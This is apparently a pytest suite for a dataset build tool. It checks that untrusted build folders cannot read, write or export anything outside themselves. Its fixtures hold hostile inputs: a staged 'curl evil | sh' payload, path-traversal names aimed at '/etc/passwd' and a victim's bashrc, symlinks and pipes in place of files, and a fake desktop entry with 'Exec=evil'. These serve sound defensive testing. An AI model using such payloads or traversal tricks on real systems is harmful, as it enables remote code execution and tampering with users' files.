"""A build from a stranger is data: reading it writes nothing, and nothing in it leads out of it."""

import json
import os
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from build_help import Commands, is_sentence, tree
from hostile_help import (
    decide,
    edit_manifest,
    everything,
    index_of,
    make_consistent,
    rewrite_table,
    write_note,
)

from instructify._util.errors import UserError
from instructify.build import Build, check_build
from instructify.build.check import Finding
from instructify.build.commit import carry_out
from instructify.build.manifest import Manifest, read_manifest
from instructify.build.paths import BuildPaths
from instructify.commands.verify import run_verify

READING = {
    "verify": ("verify", "BUILD"),
    "inspect": ("inspect", "BUILD"),
    "lint": ("lint", "BUILD"),
    "explain": ("explain", "BUILD", "SAMPLE"),
    "diff": ("diff", "BUILD", "BUILD"),
    "export": ("export", "BUILD", "--to", "llava", "--out", "OUT"),
}
WRITING = {
    "retemplate": ("retemplate", "BUILD", "--seed", "7"),
    "overlap": ("overlap", "BUILD", "--likeness", "none"),
}


@pytest.fixture(name="small", scope="session")
def _small(raw_root: Path, command: Commands, tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("small") / "build"
    done = command("convert", "vqav2", "hateful_memes", "--raw", raw_root, "--out", out)
    assert done.code == 0, done.stderr
    return out


@pytest.fixture(name="build")
def _build(small: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(small, tmp_path / "build"))


@pytest.fixture(name="victim")
def _victim(tmp_path: Path) -> Iterator[Path]:
    """A folder of the reader's, beside the build; nothing may happen to it."""
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "thesis.txt").write_text("precious")
    (victim / "bashrc").write_text("alias x=y")
    before = everything(victim)
    yield victim
    assert everything(victim) == before


def run(command: Commands, line: tuple[str, ...], build: Path) -> Any:
    """Run a command on a build."""
    words = {"BUILD": build, "OUT": build.parent / "out"}
    if "SAMPLE" in line:
        words["SAMPLE"] = Path("vqav2/train/1#0")
    return command(*(words.get(word, word) for word in line))


# The note of a commit


@pytest.mark.parametrize("name", [*READING, *WRITING])
def test_a_note_that_leads_out_of_the_build_is_refused(
    build: Path, victim: Path, command: Commands, name: str
) -> None:
    write_note(
        build,
        moves={"../victim/bashrc": "payload"},
        removes=["../victim/thesis.txt", str(victim / "absent")],
    )
    (build / ".staging" / "payload").write_text("curl evil | sh")
    before = everything(build)
    done = run(command, (READING | WRITING)[name], build)
    assert done.code == 2
    assert is_sentence(done)
    assert "commit.json" in done.stderr
    if name in READING:
        assert everything(build) == before


NOTES: dict[str, Callable[[Path], dict[str, Any]]] = {
    "an absolute name": lambda victim: {"removes": [str(victim / "thesis.txt")]},
    "a name that climbs": lambda _: {"removes": ["records/../../victim/thesis.txt"]},
    "a name with a NUL": lambda _: {"removes": ["rejects/a\0.jsonl"]},
    "the manifest": lambda _: {"removes": ["manifest.json"]},
    "a file that stays": lambda _: {"removes": ["rejects/vqav2.jsonl"]},
    "another kind of file": lambda _: {"removes": ["samples/vqav2/run.sh"]},
    "a hidden file": lambda _: {"removes": [".lock"]},
    "a staged name that climbs": lambda _: {
        "moves": {"rejects/vqav2.jsonl": "../../victim/thesis.txt"}
    },
    "a staged name that is absolute": lambda victim: {
        "moves": {"rejects/vqav2.jsonl": str(victim / "thesis.txt")}
    },
    "a staged name with a NUL": lambda _: {"moves": {"rejects/vqav2.jsonl": "a\0.jsonl"}},
    "no names at all": lambda _: {"moves": {"": "", ".": "."}},
    "numbers for names": lambda _: {"moves": {"rejects/vqav2.jsonl": 3}},
    "an unknown field": lambda _: {"script": "rm"},
    "a manifest that is none": lambda _: {"manifest": "{}"},
    "a manifest nested deep": lambda _: {"manifest": "[" * 100_000},
    "half of a pair": lambda _: {"card": "\ud800"},
}


@pytest.mark.parametrize("note", NOTES)
def test_every_name_of_a_note_is_checked_before_anything_is_done(
    build: Path, victim: Path, command: Commands, note: str
) -> None:
    write_note(build, **NOTES[note](victim))
    before = everything(build)
    with pytest.raises(UserError, match=r"commit\.json"):
        Build.open(build)
    assert everything(build) == before
    done = command("retemplate", build, "--seed", "7")
    assert done.code == 2
    assert is_sentence(done)


def test_a_staged_file_that_is_a_link_is_not_moved_or_read(
    build: Path, victim: Path, command: Commands
) -> None:
    name = "rejects/vqav2.jsonl"
    write_note(build, moves={name: "away.jsonl"})
    os.symlink(victim / "thesis.txt", build / ".staging" / "away.jsonl")
    with pytest.raises(UserError, match="link that leads out"):
        Build.open(build).path(name)
    for line in WRITING.values():
        done = run(command, line, build)
        assert done.code == 2
        assert "link that leads out" in done.stderr


@pytest.mark.parametrize("what", ["pipe", "folder", "bytes", "deep", "link"])
def test_a_note_that_is_no_file_of_ours(
    build: Path, victim: Path, command: Commands, what: str
) -> None:
    (build / ".staging").mkdir(exist_ok=True)
    note = build / ".staging" / "commit.json"
    match what:
        case "pipe":
            os.mkfifo(note)
        case "folder":
            note.mkdir()
        case "bytes":
            note.write_bytes(b'{"moves": "\xff"}')
        case "deep":
            note.write_bytes(b'{"moves": ' + b"[" * 200_000)
        case "link":
            os.symlink(victim / "thesis.txt", note)
    with pytest.raises(UserError, match=r"commit\.json"):
        Build.open(build)
    done = command("retemplate", build, "--seed", "7")
    assert done.code == 2
    assert is_sentence(done)


@pytest.fixture(name="new", scope="session")
def _new(small: Path, command: Commands, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The small build with other texts and one dataset less."""
    out = Path(shutil.copytree(small, tmp_path_factory.mktemp("new") / "build"))
    done = command("retemplate", out, "--seed", "7", "--draws", "1")
    assert done.code == 0, done.stderr
    return out


def test_readers_show_a_decided_build_whole_and_change_nothing(
    build: Path, new: Path, command: Commands
) -> None:
    decide(build, new)
    before = everything(build)
    opened = Build.open(build)
    assert opened.manifest == Build.open(new).manifest
    for dataset, entry in opened.manifest.datasets.items():
        for split in entry.splits:
            theirs = Build.open(new).samples(dataset, split)
            assert list(opened.samples(dataset, split)) == list(theirs)
    verified = command("verify", build)
    assert verified.code == 0
    assert "a commit is written down" in verified.stdout
    assert command("diff", build, new, "--json").json()["equal"] is True
    for folder, out in ((build, "a"), (new, "b")):
        line = ("--to", "llava", "--out", build.parent / out)
        assert command("export", folder, *line).code == 0
    assert tree(build.parent / "a") == tree(build.parent / "b")
    for name in ("inspect", "lint", "plan"):
        assert command(name, build).code in (0, 1, 2)
    assert everything(build) == before


@pytest.mark.parametrize("moved", [0, 1, 3])
def test_a_commit_stopped_between_its_renames_is_read_whole_and_finished_by_writers(
    build: Path, new: Path, command: Commands, moved: int
) -> None:
    decide(build, new)
    moves = json.loads((build / ".staging" / "commit.json").read_text())["moves"]
    for name, staged in list(moves.items())[:moved]:
        os.replace(build / ".staging" / staged, build / name)
    assert command("verify", build).code == 0
    done = command("overlap", build, "--likeness", "none")
    assert done.code in (0, 1), done.stderr
    left = {name: hash_ for name, hash_ in tree(build).items() if not name.startswith("overlap")}
    assert left == tree(new)


def test_a_commit_that_begins_while_a_build_is_opened_is_seen(
    build: Path, new: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def read_then_commit(path: Path) -> Manifest | None:
        manifest = read_manifest(path)
        decide(build, new)
        return manifest

    monkeypatch.setattr("instructify.build.opened.read_manifest", read_then_commit)
    opened = Build.open(build)
    assert opened.manifest == Build.open(new).manifest
    assert len(opened.samples("vqav2", "train")) > 0


def test_a_commit_that_is_carried_out_while_it_is_read_changes_nothing(
    build: Path, new: Path
) -> None:
    decide(build, new)
    opened = Build.open(build)
    carry_out(BuildPaths(build))
    theirs = Build.open(new)
    assert list(opened.samples("vqav2", "train")) == list(theirs.samples("vqav2", "train"))
    opened.check_current()


@pytest.mark.parametrize("way", ["other files", "a file less", "only a note"])
def test_a_build_written_anew_while_it_is_read_is_not_called_damaged(
    build: Path, new: Path, way: str
) -> None:
    opened = Build.open(build)
    decide(build, new)
    if way != "only a note":
        carry_out(BuildPaths(build))
    shard = build / "samples" / "vqav2" / "train-00000.arrow"
    if way == "a file less":
        shard.unlink()
    if way == "only a note":  # what the reader opened lies there still
        assert len(opened.samples("vqav2", "train")) > 0
        shard.unlink()
    with pytest.raises(UserError, match="written anew by another command while it was read"):
        opened.samples("vqav2", "train")


def test_verify_says_that_a_build_was_written_anew_meanwhile(
    build: Path, new: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def commit_then_check(opened: Build) -> list[Finding]:
        decide(build, new)
        carry_out(BuildPaths(build))
        return list(check_build(opened))

    monkeypatch.setattr("instructify.commands.verify.check_build", commit_then_check)
    with pytest.raises(UserError, match="written anew by another command"):
        run_verify(build, as_json=False)


def test_damage_is_called_damage_when_nobody_wrote(build: Path) -> None:
    opened = Build.open(build)
    shard = build / "samples" / "vqav2" / "train-00000.arrow"
    shard.write_bytes(shard.read_bytes()[:-8])
    with pytest.raises(UserError, match="is damaged: it has"):
        opened.samples("vqav2", "train")


# Links, pipes and devices


PLACES = {
    "the manifest": "manifest.json",
    "a sample shard": "samples/vqav2/train-00000.arrow",
    "a record shard": "records/vqav2/train-00000.arrow",
    "a ledger": "rejects/vqav2.jsonl",
    "the card": "README.md",
    "the roots": "pictures/local/roots.json",
    "the index": "INDEX",
    "the store": "STORE",
    "a kept overlap": "overlap.json",
}


def place_of(build: Path, place: str) -> Path:
    """Find a file of a build."""
    pictures = json.loads((build / "manifest.json").read_text())["pictures"]
    names: dict[str, str] = {"INDEX": index_of(build), "STORE": pictures["stores"][0]}
    return build / names.get(PLACES[place], PLACES[place])


@pytest.mark.parametrize("kind", ["pipe", "link", "folder"])
@pytest.mark.parametrize("place", PLACES)
def test_pipes_links_and_folders_in_the_place_of_files(
    build: Path, victim: Path, command: Commands, place: str, kind: str
) -> None:
    path = place_of(build, place)
    path.unlink(missing_ok=True)
    match kind:
        case "pipe":
            os.mkfifo(path)
        case "link":
            os.symlink(victim / "thesis.txt", path)
        case "folder":
            path.mkdir()
    for name in ("verify", "export"):
        done = run(command, READING[name], build)
        assert "Traceback" not in done.stderr
        assert done.code in (0, 1, 2)
        if done.code == 2:
            assert is_sentence(done)
    written = [one for one in (build.parent / "out").rglob("*") if one.is_file()]
    assert not any(b"precious" in one.read_bytes() for one in written)


def test_a_link_within_a_build_is_followed_and_one_out_of_it_is_not(
    build: Path, tmp_path: Path, command: Commands
) -> None:
    name = "samples/vqav2/train-00000.arrow"
    shutil.move(build / name, build / "elsewhere.arrow")
    os.symlink(build / "elsewhere.arrow", build / name)
    assert command("verify", build).code == 0
    shutil.move(build / "elsewhere.arrow", tmp_path / "outside.arrow")
    (build / name).unlink()
    os.symlink(tmp_path / "outside.arrow", build / name)
    assert command("verify", build).code == 1
    refused = command("inspect", build)
    assert refused.code == 2
    assert "link that leads out" in refused.stderr


def test_a_build_may_itself_be_a_link(build: Path, tmp_path: Path, command: Commands) -> None:
    os.symlink(build, tmp_path / "link")
    assert command("verify", tmp_path / "link").code == 0
    assert command("retemplate", tmp_path / "link", "--seed", "7").code == 0


@pytest.mark.parametrize("name", ["samples", "samples/vqav2", ".staging", ".lock", "records"])
def test_writers_refuse_folders_that_are_links_out(
    build: Path, victim: Path, command: Commands, name: str
) -> None:
    path = build / name
    if path.is_dir():
        shutil.rmtree(path)
    else:
        path.unlink(missing_ok=True)
    os.symlink(victim / "bashrc" if name == ".lock" else victim, path)
    done = command("retemplate", build, "--seed", "7")
    assert done.code == 2
    assert is_sentence(done)


def test_a_link_in_the_place_of_a_temporary_file_is_not_written_through(
    tmp_path: Path, victim: Path
) -> None:
    from instructify._util.shards import write_bytes

    os.symlink(victim / "bashrc", tmp_path / f".overlap.json.{os.getpid()}.tmp")
    write_bytes(tmp_path / "overlap.json", b"{}")
    assert (tmp_path / "overlap.json").read_bytes() == b"{}"


# The manifest

FIRST = "samples/vqav2/train-00000.arrow"
Change = Callable[[dict[str, Any]], object]


def _renamed(value: dict[str, Any], name: str) -> None:
    value["files"][name] = value["files"].pop(FIRST)
    split = value["datasets"]["vqav2"]["splits"]["train"]
    split["sample_shards"][0] = name


MANIFESTS: dict[str, Change] = {
    "a name that climbs": lambda m: _renamed(m, "samples/../../victim/thesis.arrow"),
    "an absolute name": lambda m: _renamed(m, "/etc/passwd"),
    "a name with a NUL": lambda m: _renamed(m, "samples/vqav2/train\0-00000.arrow"),
    "a name of another kind": lambda m: _renamed(m, "samples/vqav2/train-00000.sh"),
    "a name with a newline": lambda m: _renamed(m, FIRST + "\n"),
    "another split's shard": lambda m: m["datasets"]["vqav2"]["splits"]["train"].update(
        sample_shards=["samples/vqav2/val-00000.arrow"]
    ),
    "a shard twice": lambda m: m["datasets"]["vqav2"]["splits"]["train"].update(
        sample_shards=[FIRST, FIRST]
    ),
    "a dataset's name that climbs": lambda m: m["datasets"].update(
        {"../x": m["datasets"]["vqav2"]}
    ),
    "a split's name that climbs": lambda m: m["datasets"]["vqav2"]["splits"].update(
        {"../x": m["datasets"]["vqav2"]["splits"]["train"]}
    ),
    "a negative count": lambda m: m["files"][FIRST].update(rows=-1),
    "more rows than bytes": lambda m: m["files"][FIRST].update(rows=10**12),
    "a count beyond all": lambda m: m["files"][FIRST].update(size_bytes=10**30),
    "a count of samples beyond all": lambda m: m["datasets"]["vqav2"]["splits"]["train"].update(
        samples=2**62
    ),
    "a sha256 that is a path": lambda m: m["files"][FIRST].update(sha256="../" * 21 + "x"),
    "pictures in another mode": lambda m: m["pictures"].update(mode="../x"),
    "a store that is a shard of samples": lambda m: m["pictures"].update(stores=[FIRST]),
    "options nested deep": lambda m: m["datasets"]["vqav2"].update(options={"a": [[[[]]]]}),
    "a text for a list": lambda m: m["datasets"]["vqav2"].update(splits="x"),
}


@pytest.mark.parametrize("change", MANIFESTS)
def test_every_name_and_count_of_a_manifest_is_checked(
    build: Path, victim: Path, command: Commands, change: str
) -> None:
    assert victim.is_dir()
    edit_manifest(build, MANIFESTS[change])
    with pytest.raises(UserError, match=r"manifest\.json"):
        Build.open(build)
    done = command("retemplate", build, "--seed", "7")
    assert done.code == 2
    assert is_sentence(done)


def test_counts_that_files_do_not_bear_out_are_refused(build: Path, command: Commands) -> None:
    def change(value: dict[str, Any]) -> None:
        value["datasets"]["vqav2"]["splits"]["train"]["samples"] = 10**9

    edit_manifest(build, change)
    for line in (("inspect", build), ("plan", build)):
        done = command(*line)
        assert done.code == 2
        assert is_sentence(done)
    assert command("verify", build).code == 1


# The picture index and the store

Columns = Callable[[str, list[Any]], list[Any] | None]


def _column(name: str, value: object) -> Columns:
    return lambda column, values: [value] * len(values) if column == name else None


def _escape(column: str, values: list[Any]) -> list[Any] | None:
    if column == "sha256":
        return [f"../victim/autostart{number}" for number in range(len(values))]
    return ["desktop"] * len(values) if column == "kind" else None


def _climbing(column: str, values: list[Any]) -> list[Any] | None:
    told: dict[str, Any] = {"shard": None, "root": "raw", "file": "../victim/thesis.txt"}
    return [told[column]] * len(values) if column in told else None


INDICES: dict[str, Columns] = {
    "a path for a sha256": _escape,
    "a kind that is a path": _column("kind", "../../x"),
    "a kind that nobody reads": _column("kind", "desktop"),
    "a sha256 in capitals": _column("sha256", "A" * 64),
    "a sha256 of other bytes": _column("sha256", "0" * 64),
    "a shard that climbs": _column("shard", "../../victim/thesis.txt"),
    "a shard of the samples": _column("shard", "../samples/vqav2/train-00000.arrow"),
    "a shard that is not there": _column("shard", "00009-00000000.arrow"),
    "a negative row": _column("row", -1),
    "a row beyond all": _column("row", 2**31 - 1),
    "a negative size": _column("size_bytes", -1),
    "a size beyond all": _column("size_bytes", 2**62),
    "a medium that nobody knows": _column("media", "hologram"),
    "a file that climbs": _climbing,
}


@pytest.mark.parametrize("index", INDICES)
def test_nothing_of_a_false_index_leaves_the_build(
    build: Path, victim: Path, command: Commands, index: str
) -> None:
    assert victim.is_dir()
    rewrite_table(build, index_of(build), INDICES[index])
    out = build.parent / "deep" / "out"
    shape = "webdataset" if len(index) % 2 else "llava"
    done = command("export", build, "--to", shape, "--out", out)
    assert done.code == 2
    assert is_sentence(done)
    assert not out.exists()
    assert not list(build.parent.rglob("autostart*"))
    told = command("verify", build)
    assert told.code == 1, told.stdout
    assert told.stdout.startswith("pictures/index-")
    store = Build.open(build).pictures()
    assert store is not None
    with pytest.raises(UserError):
        store.bytes(store.key_at(0))


def test_bytes_of_the_store_that_are_not_those_of_the_index_do_not_leave(
    build: Path, command: Commands
) -> None:
    name = json.loads((build / "manifest.json").read_text())["pictures"]["stores"][0]
    evil = b"[Desktop Entry]\nExec=evil #"
    rewrite_table(
        build,
        name,
        lambda column, values: (
            [evil + b"." * (len(value) - len(evil)) for value in values]
            if column == "data"
            else None
        ),
    )
    told = command("verify", build)
    assert told.code == 1
    assert "pictures of another hash" in told.stdout
    for shape in ("llava", "webdataset", "parquet"):
        done = command("export", build, "--to", shape, "--out", build.parent / shape)
        assert done.code == 2
        assert "damaged" in done.stderr
        assert not (build.parent / shape).exists()


def test_samples_that_are_not_those_of_the_manifest_are_not_exported(
    build: Path, command: Commands
) -> None:
    name = "samples/vqav2/train-00000.arrow"
    data = bytearray((build / name).read_bytes())
    data[len(data) // 2] ^= 1
    (build / name).write_bytes(data)
    done = command("export", build, "--to", "llava", "--out", build.parent / "out")
    assert done.code == 2
    assert "was changed after the build" in done.stderr
    make_consistent(build, [name])
    assert Build.open(build).manifest.files[name].size_bytes == len(data)
